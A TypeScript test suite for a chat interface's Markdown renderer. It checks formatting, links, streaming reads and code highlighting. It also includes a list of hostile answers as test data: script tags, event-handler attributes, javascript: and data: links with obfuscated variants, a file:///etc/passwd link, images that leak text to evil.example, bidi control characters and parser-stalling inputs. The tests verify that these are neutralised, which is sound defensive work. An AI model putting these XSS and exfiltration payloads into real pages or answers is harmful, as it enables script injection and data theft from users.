// Answers as Markdown: complete, and safe whatever a model writes.
import assert from 'node:assert/strict';
import type { ComponentChildren, VNode } from 'preact';
import { MarkdownReader, type MarkdownDocument } from '../page/dist/views/chat/markdown/reader.js';
import { partsOf } from '../page/dist/views/chat/markdown/plain-text.js';
import { renderBlock } from '../page/dist/views/chat/markdown/render.js';
import { highlight } from '../page/dist/views/chat/markdown/highlight.js';

/** The elements as text that looks like HTML. Nothing is escaped, because the text of an answer is no markup. */
function shown(node: ComponentChildren): string {
  if (Array.isArray(node)) return node.map(shown).join('');
  if (node === null || node === undefined || typeof node === 'boolean') return '';
  if (typeof node !== 'object') return `“${String(node)}”`;
  const { type, props } = node as VNode<Record<string, unknown>>;
  const name = typeof type === 'string' ? type : type.name;
  const { children, ...attributes } = props;
  const list = Object.entries(attributes)
    .filter(([, value]) => value !== undefined && value !== false)
    .map(([key, value]) => ` ${key}=${String(value)}`);
  return `<${name}${list.join('')}>${shown(children as ComponentChildren)}</${name}>`;
}

function read(text: string): MarkdownDocument {
  return new MarkdownReader().read(text, true);
}

function markdown(text: string): string {
  return read(text)
    .blocks.map((block) => shown(renderBlock(block)))
    .join('');
}

/** The attributes of all elements, by name. */
function attributesOf(node: ComponentChildren, found: [string, string, unknown][] = []): [string, string, unknown][] {
  if (Array.isArray(node)) for (const one of node) attributesOf(one as ComponentChildren, found);
  else if (typeof node === 'object' && node !== null) {
    const { type, props } = node as VNode<Record<string, unknown>>;
    for (const [key, value] of Object.entries(props))
      if (key !== 'children') found.push([typeof type === 'string' ? type : type.name, key, value]);
    attributesOf(props['children'] as ComponentChildren, found);
  }
  return found;
}

describe('an answer in Markdown', () => {
  it('has paragraphs with line breaks, emphasis, deleted text, code and escapes', () => {
    assert.equal(
      markdown('One *em* **strong** ~~del~~ `a < b` \\*\nnext\n\nTwo'),
      '<p>“One ”<em>“em”</em>“ ”<strong>“strong”</strong>“ ”<del>“del”</del>“ ”<code>“a < b”</code>“ ”“*”<br></br>“next”</p><p>“Two”</p>',
    );
  });

  it('has headings without a gap in their levels, below that of the author', () => {
    assert.equal(markdown('## A\n#### B\n# C\n###### D\n'), '<h3>“A”</h3><h4>“B”</h4><h3>“C”</h3><h4>“D”</h4>');
    assert.equal(markdown('> # A'), '<blockquote><p><strong>“A”</strong></p></blockquote>');
  });

  it('has nested lists that begin with any number, and tasks', () => {
    assert.equal(
      markdown('3. a\n4. b\n   - c\n'),
      '<ol start=3><li><span>“a”</span></li><li><span>“b”</span><ul><li><span>“c”</span></li></ul></li></ol>',
    );
    assert.equal(
      markdown('- [x] done\n- [ ] open\n'),
      '<ul><li class=task><span><input type=checkbox disabled=true checked=true aria-label=Task></input></span><span>“done”</span></li>' +
        '<li class=task><span><input type=checkbox disabled=true aria-label=Task></input></span><span>“open”</span></li></ul>',
    );
  });

  it('has tables with alignment that can be scrolled with the keyboard', () => {
    assert.equal(
      markdown('| a | b | c |\n|:--|:-:|--:|\n| 1 | **2** | 3 |\n'),
      '<div class=table-scroll tabIndex=0 role=group aria-label=Table><table class=data>' +
        '<thead><tr><th>“a”</th><th class=align-center>“b”</th><th class=align-right>“c”</th></tr></thead>' +
        '<tbody><tr><td>“1”</td><td class=align-center><strong>“2”</strong></td><td class=align-right>“3”</td></tr></tbody></table></div>',
    );
  });

  it('has quotes, rules and code with its language, closed or not', () => {
    assert.equal(markdown('> q\n\n---\n'), '<blockquote><p>“q”</p></blockquote><hr></hr>');
    assert.equal(
      markdown('```ts title="x"\nlet a;\n```\n'),
      '<CodeBlock code=let a; language=ts isClosed=true></CodeBlock>',
    );
    assert.equal(markdown('~~~\nlet a;\n'), '<CodeBlock code=let a; language=></CodeBlock>');
  });

  it('has links to web pages and mail addresses, which say where they lead and tell nothing of this page', () => {
    const attributes = 'target=_blank rel=noopener noreferrer';
    assert.equal(
      markdown(
        '[a](https://a.example/?x=1&y=2 "t") <mailto:b@b.example> www.c.example [d][1]\n\n[1]: http://d.example',
      ),
      `<p><a href=https://a.example/?x=1&y=2 title=https://a.example/?x=1&y=2 ${attributes}>“a”</a>“ ”` +
        `<a href=mailto:b@b.example title=mailto:b@b.example ${attributes}>“mailto:b@b.example”</a>“ ”` +
        `<a href=http://www.c.example/ title=http://www.c.example/ ${attributes}>“www.c.example”</a>“ ”` +
        `<a href=http://d.example/ title=http://d.example/ ${attributes}>“d”</a></p>`,
    );
  });

  it('decodes character references in text, and only there', () => {
    assert.equal(markdown('&lt;b&gt; &#65;&#x42; &unknown; `&lt;`'), '<p>“<b> AB &unknown; ”<code>“&lt;”</code></p>');
  });

  it('is the same while it grows as when it is read at once, and keeps the blocks that are finished', () => {
    const text = '# A\n\none\ntwo\n\n- a\n- b\n\n  c\n\n| a |\n|---|\n| 1 |\n\n```js\nx\n```\n\nlast';
    const reader = new MarkdownReader();
    let first: unknown;
    for (let end = 1; end <= text.length; end++) {
      const { blocks } = reader.read(text.slice(0, end), false);
      assert.deepEqual(blocks, new MarkdownReader().read(text.slice(0, end), false).blocks, text.slice(0, end));
      if (end === 20) first = blocks[0];
    }
    assert.equal(reader.read(text, true).blocks[0], first);
  });

  it('finds links that are defined at its end, once it is complete', () => {
    const reader = new MarkdownReader();
    const text = '[a]\n\nb\n\nc\n\n[a]: http://a.example';
    for (let end = 1; end <= text.length; end++) reader.read(text.slice(0, end), false);
    assert.match(shown(renderBlock(reader.read(text, true).blocks[0]!)), /^<p><a href=http:\/\/a\.example\/ /);
  });

  it('puts line ends together that arrive in two parts', () => {
    const reader = new MarkdownReader();
    for (const part of ['a\r', 'a\r\nb', 'a\r\nb\r']) reader.read(part, false);
    assert.equal(shown(renderBlock(reader.read('a\r\nb\r', true).blocks[0]!)), '<p>“a”<br></br>“b”</p>');
  });
});

describe('a hostile answer', () => {
  const hostile = [
    '<script>alert(1)</script>',
    'x <img src=x onerror="alert(1)"> <svg onload=alert(1)> <!-- comment --> <a href="javascript:alert(1)">y</a>',
    '<iframe src="javascript:alert(1)"></iframe>\n<style>body{display:none}</style>',
    '[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) [d](JaVaScRiPt:x) [e](\tjavascript:x) [f](java&#x73;cript:x)',
    '[g](#/chat?text=x) [h](/ui/) [i](//evil.example) [j](ws://evil.example) [k](blob:http://a/b) <javascript:alert(1)> <file:///etc/passwd>',
    '[ref] ![image](javascript:x)\n\n[ref]: javascript:alert(1)',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <b onmouseover=alert(1)>x</b> |',
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '[![x](http://evil.example/track.png)](http://evil.example) ![y](data:image/png;base64,AAAA) ![z](http://evil.example/leak?text=secret "t")',
  ].join('\n\n');

  it('makes no element and no attribute but those of Markdown', () => {
    const nodes = read(hostile).blocks.map((block) => renderBlock(block));
    const allowed = [
      'class',
      'href',
      'title',
      'target',
      'rel',
      'role',
      'tabIndex',
      'aria-label',
      'code',
      'language',
      'isClosed',
    ];
    for (const [element, name, value] of attributesOf(nodes)) {
      assert.ok(allowed.includes(name), `${element} has ${name}`);
      if (name === 'href') assert.match(String(value), /^(https?|mailto):/);
      if (name === 'language') assert.match(String(value), /^[\w+#.-]*$/);
    }
    const elements = [
      ...shown(nodes)
        .replace(/“[^”]*”/g, '')
        .replace(/code=.*? language/g, '')
        .matchAll(/<(\w+)/g),
    ].map(([, name]) => name);
    const known = ['a', 'CodeBlock', 'div', 'p', 'span', 'table', 'tbody', 'td', 'th', 'thead', 'tr'];
    assert.deepEqual([...new Set(elements)].sort(), [...known].sort());
  });

  it('shows its HTML as the text that it is', () => {
    assert.equal(markdown('<script>alert(1)</script>\n'), '<p class=as-text>“<script>alert(1)</script>”</p>');
    assert.equal(markdown('a <b onclick=x>b</b>'), '<p>“a ”“<b onclick=x>”“b”“</b>”</p>');
    assert.equal(markdown('<!-- a -->'), '<p class=as-text>“<!-- a -->”</p>');
  });

  it('loads no image: a remote one is a link, another one its description', () => {
    assert.match(
      markdown('![cat](http://a.example/cat.png)'),
      /^<p><a href=http:\/\/a\.example\/cat\.png [^>]*>“Image: cat”<\/a><\/p>$/,
    );
    assert.equal(markdown('![](data:image/png;base64,AAAA)'), '<p><span>“Image: without a description”</span></p>');
  });

  it('hides nothing with control characters, and turns no text around', () => {
    assert.equal(
      markdown('a\u202Eb\u2066c\u0000d\u001B[31m &#x202E; &#0;'),
      '<p>“a\uFFFDb\uFFFDc\uFFFDd\uFFFD[31m \uFFFD \uFFFD”</p>',
    );
    assert.match(markdown('```\na\u202Eb\n```'), /code=a\uFFFDb /);
  });

  it('is nested only so deep, in lists and in quotes', () => {
    const lists = Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`)
      .join('\n')
      .slice(0, 30_000);
    assert.equal(markdown(lists).match(/<ul>/g)!.length, 12);
    assert.equal(markdown('> '.repeat(5_000) + 'x').match(/<blockquote>/g)!.length, 12);
  });

  // Without the limits, some of these take minutes.
  for (const unit of ['*a_', '[', '*', '<a ', '![', '~~a', '_a ', '|a', '> ', '1. ', '| a | b |\n|-|-|\n', '- ', '`'])
    it(`is read in time when it is 100,000 characters of ${JSON.stringify(unit)}`, function () {
      this.timeout(10_000);
      const text = unit.repeat(Math.ceil(100_000 / unit.length));
      const { blocks, rest } = read(text);
      assert.ok(blocks.map((block) => shown(renderBlock(block))).join('') !== '' || rest !== '');
    });

  it('is text when a row of its table gets more cells than there are', () => {
    const table = `${'|a'.repeat(1_000)}|\n${'|-'.repeat(1_000)}|\n${'|1\n'.repeat(2_000)}`;
    assert.match(markdown(table), /^<span>“\|a\|a/);
  });

  it('is plain text from where it is too long: after 100,000 characters, 2,000 blocks, or in a block of 32,000', () => {
    const long = read('word '.repeat(5).concat('\n\n').repeat(10_000));
    assert.deepEqual([long.blocks.length, long.rest.length > 0], [2_000, true]);
    const block = read(`# A\n\n${'x '.repeat(20_000)}\n\n# B`);
    assert.deepEqual(
      block.blocks.map(({ token }) => token.type),
      ['heading'],
    );
    assert.match(block.rest, /^x x .*\n\n# B$/s);
    const code = read(`\`\`\`\n${'let a = 1;\n'.repeat(20_000)}\`\`\``);
    assert.deepEqual([code.blocks.length, code.blocks[0]!.token.raw.length], [1, 100_000]);
    assert.equal(code.rest.length, 20_000 * 11 + 7 - 100_000);
  });
});

describe('long plain text', () => {
  it('is cut after lines or words, at the same places while it grows, and loses nothing', () => {
    const text = `${'word '.repeat(3_000)}\n${'w'.repeat(20_000)}\n${'🙂'.repeat(10_000)}`;
    const parts = partsOf(text);
    assert.equal(parts.join(''), text);
    assert.ok(parts.every((part) => part.length <= 8_000));
    for (const part of parts) assert.doesNotThrow(() => encodeURIComponent(part), 'half of a character');
    assert.deepEqual(partsOf(text.slice(0, 20_000)).slice(0, -1), parts.slice(0, 2));
  });
});

describe('the colours of code', () => {
  it('are elements with a class each, and the text is the code', () => {
    assert.equal(
      shown(highlight('let a = "<b>";', 'js')),
      '<span class=code-keyword>“let”</span>“ a ”“= ”<span class=code-string>“"<b>"”</span>“;”',
    );
  });

  it('are none for a language that nobody knows', () => {
    assert.equal(highlight('x', 'constructor'), undefined);
  });
});
